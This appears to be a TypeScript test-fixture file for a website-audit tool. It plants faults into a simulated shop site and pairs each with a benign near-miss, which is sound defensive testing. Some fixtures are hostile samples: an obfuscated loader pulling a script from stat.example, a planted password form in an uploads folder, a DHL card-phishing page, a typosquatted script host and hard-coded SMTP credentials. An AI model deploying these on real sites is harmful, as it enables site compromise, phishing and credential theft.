import {
  ABOUT,
  type AccuracyCase,
  add,
  at,
  bodyOf,
  CONTACT,
  copyPage,
  edit,
  forward,
  full,
  HOME,
  head,
  jsonLd,
  link,
  main,
  TOUR,
} from "./planting.ts";
import { answer, type World } from "./world.ts";

const ADDRESS = { "@type": "PostalAddress", streetAddress: "12 Mill Lane", addressLocality: "Oakhill" };

/** Further faults of rules that other cases plant another way. */
export const GROWN_CASES: AccuracyCase[] = [
  {
    rule: "sample_key",
    fault: (w) => main(w, TOUR, "<script>var pay = Stripe('pk_test_51ExAmPlEaBcDeFgH')</script>"),
    nearMiss: (w) => main(w, TOUR, "<script>var pay = Stripe('pk_live_51ExAmPlEaBcDeFgH')</script>"),
  },
  {
    rule: "retired_service",
    fault: (w) => main(w, HOME, "<script>ga('create','UA-1234567-1','auto');ga('send','pageview')</script>"),
    nearMiss: (w) => main(w, HOME, "<script>gtag('config','G-ABC1234567')</script>"),
  },
  {
    rule: "retired_service",
    fault: (w) =>
      head(
        w,
        HOME,
        "<script>(function(a,s,y,n,c,h,i,d,e){s.className+=' '+y})(window,document.documentElement,'async-hide','dataLayer',4000,{'GTM-ABC':true})</script>",
      ),
    nearMiss: (w) => head(w, HOME, "<style>.async-hide{opacity:0}</style>"),
  },
  {
    rule: "field_limits",
    fault: (w) => main(w, CONTACT, field('type="tel" name="tel" pattern="[0-9]{10}"')),
    nearMiss: (w) => main(w, CONTACT, field('type="tel" name="tel" pattern="[+]?[0-9 ]{6,20}"')),
  },
  {
    rule: "field_limits",
    fault: (w) => main(w, CONTACT, field('type="date" name="arrival" min="2023-04-01" max="2024-10-31"')),
    nearMiss: (w) => main(w, CONTACT, field('type="date" name="birthday" max="2007-10-31"')),
  },
  {
    rule: "injected_spam",
    fault: (w) =>
      main(
        w,
        ABOUT,
        "<script>var s=document.createElement('script');s.src=String.fromCharCode(104,116,116,112,115,58,47,47)+'stat.example/j';document.head.appendChild(s)</script>",
      ),
    nearMiss: (w) => main(w, ABOUT, "<script>var sign = String.fromCharCode(169) + ' Oakhill'</script>"),
  },
  {
    rule: "injected_spam",
    fault: (w) => {
      link(w, ABOUT, "/wp-content/uploads/2023/cache.php");
      add(
        w,
        "/wp-content/uploads/2023/cache.php",
        "<form method=post><input type=password name=pass><input type=submit></form>",
      );
    },
    nearMiss: (w) => {
      link(w, ABOUT, "/account/login.php");
      copyPage(w, ABOUT, "/account/login.php");
      main(
        w,
        "/account/login.php",
        '<form method="post"><input type="password" name="pass" aria-label="Password"></form>',
      );
    },
  },
  {
    rule: "injected_spam",
    fault: (w) => {
      add(
        w,
        "/files/dhl/",
        '<!doctype html><title>DHL: pay the customs</title><h1>DHL</h1><form action="send.php" method="post"><input name="kreditkarte"></form>',
      );
      edit(w, "/sitemap.xml", ["</urlset>", `<url><loc>${full("/files/dhl/")}</loc></url></urlset>`]);
    },
    nearMiss: (w) => main(w, ABOUT, "<p>We send parcels by DHL; you may pay by Kreditkarte.</p>"),
  },
  {
    rule: "script_host_imitates",
    fault: (w) => foreignScript(w, "https://www.googletagrnanager.example/gtm.js"),
    nearMiss: (w) => foreignScript(w, "https://www.googletagmanager.com/gtm.js"),
  },
  {
    rule: "strange_files",
    fault: (w) => listed(w, "/wp-content/uploads/wpcf7-files/free-robux-2024.pdf"),
    nearMiss: (w) => listed(w, "/wp-content/uploads/2024/prices-2024.pdf"),
  },
  {
    rule: "placeholder_text",
    fault: (w) => main(w, ABOUT, "<p>The owner is [NOMBRE DE LA EMPRESA], of Oakhill.</p>"),
    nearMiss: (w) => main(w, ABOUT, "<p>The bench of 1987 [SOLD OUT] was of beech.</p>"),
  },
  {
    rule: "placeholder_text",
    fault: (w) => main(w, TOUR, "<p>{{ product.price }}</p>"),
    nearMiss: (w) => {
      add(w, "/js/vue.global.prod.js", "void 0", { "content-type": "text/javascript" });
      main(w, TOUR, '<p>{{ product.price }}</p><script src="/js/vue.global.prod.js" defer></script>');
    },
  },
  {
    rule: "local_link",
    fault: (w) => picture(w, "https://dam.test.agency-q.example/wp-content/uploads/hero.webp"),
    nearMiss: (w) => picture(w, "https://cdn.agency-q.example/wp-content/uploads/hero.webp"),
  },
  {
    rule: "cms_unsupported",
    fault: (w) => ownScript(w, "/skin/frontend/rwd/default/js/app.js"),
    nearMiss: (w) => ownScript(w, "/static/version1700000000/frontend/app.js"),
  },
  {
    rule: "leaked_secret",
    fault: (w) => main(w, ABOUT, "<script>function go(pw){if(pw==='dealer2020')location='/about/'}</script>"),
    nearMiss: (w) => main(w, ABOUT, "<script>function go(pw){if(pw.length<8)return false}</script>"),
  },
  {
    rule: "leaked_secret",
    fault: (w) =>
      main(
        w,
        CONTACT,
        '<script>Email.send({Host:"smtp.oakhill.example",Username:"info@oakhill.example",Password:"Winter21!"})</script>',
      ),
    nearMiss: (w) => main(w, CONTACT, "<script>emailjs.init('user_public123')</script>"),
  },
  {
    rule: "comment_open",
    fault: (w) => {
      const html = bodyOf(w, ABOUT).replaceAll(/<script[\s\S]*?<\/script>/g, "");
      at(w, ABOUT).body = html.replace("<main", '<script src="/app.js" /><main');
    },
    nearMiss: (w) => main(w, ABOUT, '<br /><script src="/app.js?late" /></script>'),
  },
  {
    rule: "maintenance_as_page",
    fault: (w) => {
      forward(w, HOME, full("/wartung.html"));
      add(w, "/wartung.html", "<!doctype html><title>Oakhill</title><p>Wir bauen um.");
    },
    nearMiss: (w) => {
      copyPage(w, HOME, "/welcome/");
      forward(w, HOME, full("/welcome/"));
    },
  },
  {
    rule: "price_zero",
    fault: (w) => forNothing(w, "Oak table"),
    nearMiss: (w) => forNothing(w, "Gratis-Muster Oak"),
  },
  {
    rule: "chat_number_national",
    fault: (w) => main(w, CONTACT, '<a href="https://wa.me/00393331234567">Write to us</a>'),
    nearMiss: (w) => main(w, CONTACT, '<a href="https://wa.me/393331234567">Write to us</a>'),
  },
  {
    rule: "exposed_files",
    fault: (w) =>
      add(w, "/backup.sql.gz", new Uint8Array([0x1f, 0x8b, 8, 0, 1, 2, 3, 4]), { "content-type": "application/gzip" }),
    nearMiss: (w) => w.answers.set(full("/backup.sql.gz"), { ...answer("No"), status: 403 }),
  },
  {
    rule: "directory_listing",
    fault: (w) => exported(w, "<title>Index of /export</title>"),
    nearMiss: (w) => exported(w, "<title>Log in</title>"),
  },
  {
    rule: "sample_contact",
    fault: (w) =>
      jsonLd(w, CONTACT, {
        "@type": "BikeStore",
        name: "Oakhill Cycles",
        telephone: "+1-401-555-1212",
        address: ADDRESS,
      }),
    nearMiss: (w) =>
      jsonLd(w, CONTACT, {
        "@type": "BikeStore",
        name: "Oakhill Cycles",
        telephone: "+44 20 7946 0958",
        address: ADDRESS,
      }),
  },
];

function field(attributes: string): string {
  return `<form method="post" action="/contact/"><input ${attributes} aria-label="Field"><button>Send</button></form>`;
}

function foreignScript(w: World, url: string): void {
  for (const given of w.answers.values()) delete given.headers["content-security-policy"];
  w.answers.set(url, answer("void 0", { "content-type": "text/javascript" }));
  head(w, TOUR, `<script src="${url}" defer></script>`);
}

function listed(w: World, path: string): void {
  add(w, path, "%PDF-1.4", { "content-type": "application/pdf" });
  edit(w, "/sitemap.xml", ["</urlset>", `<url><loc>${full(path)}</loc></url></urlset>`]);
}

function picture(w: World, url: string): void {
  w.answers.set(url, answer("x".repeat(9000), { "content-type": "image/webp" }));
  main(w, ABOUT, `<img src="${url}" alt="The bench" width="20" height="20">`);
}

function ownScript(w: World, path: string): void {
  add(w, path, "void 0", { "content-type": "text/javascript" });
  head(w, HOME, `<script src="${path}" defer></script>`);
}

function forNothing(w: World, name: string): void {
  copyPage(w, TOUR, "/products/oak/");
  edit(w, "/products/oak/", [/<title>[^<]*/, `<title>${name}`]);
  edit(w, "/products/oak/", [/<h1>[^<]*<\/h1>/, `<h1>${name}</h1><p>0,00 €</p>`]);
  link(w, ABOUT, "/products/oak/");
}

function exported(w: World, title: string): void {
  edit(w, "/robots.txt", ["Disallow: /cart/", "Disallow: /cart/\nDisallow: /export/"]);
  add(w, "/export/", `<html><head>${title}</head><body><a href="a.csv">a.csv</a></body></html>`);
}
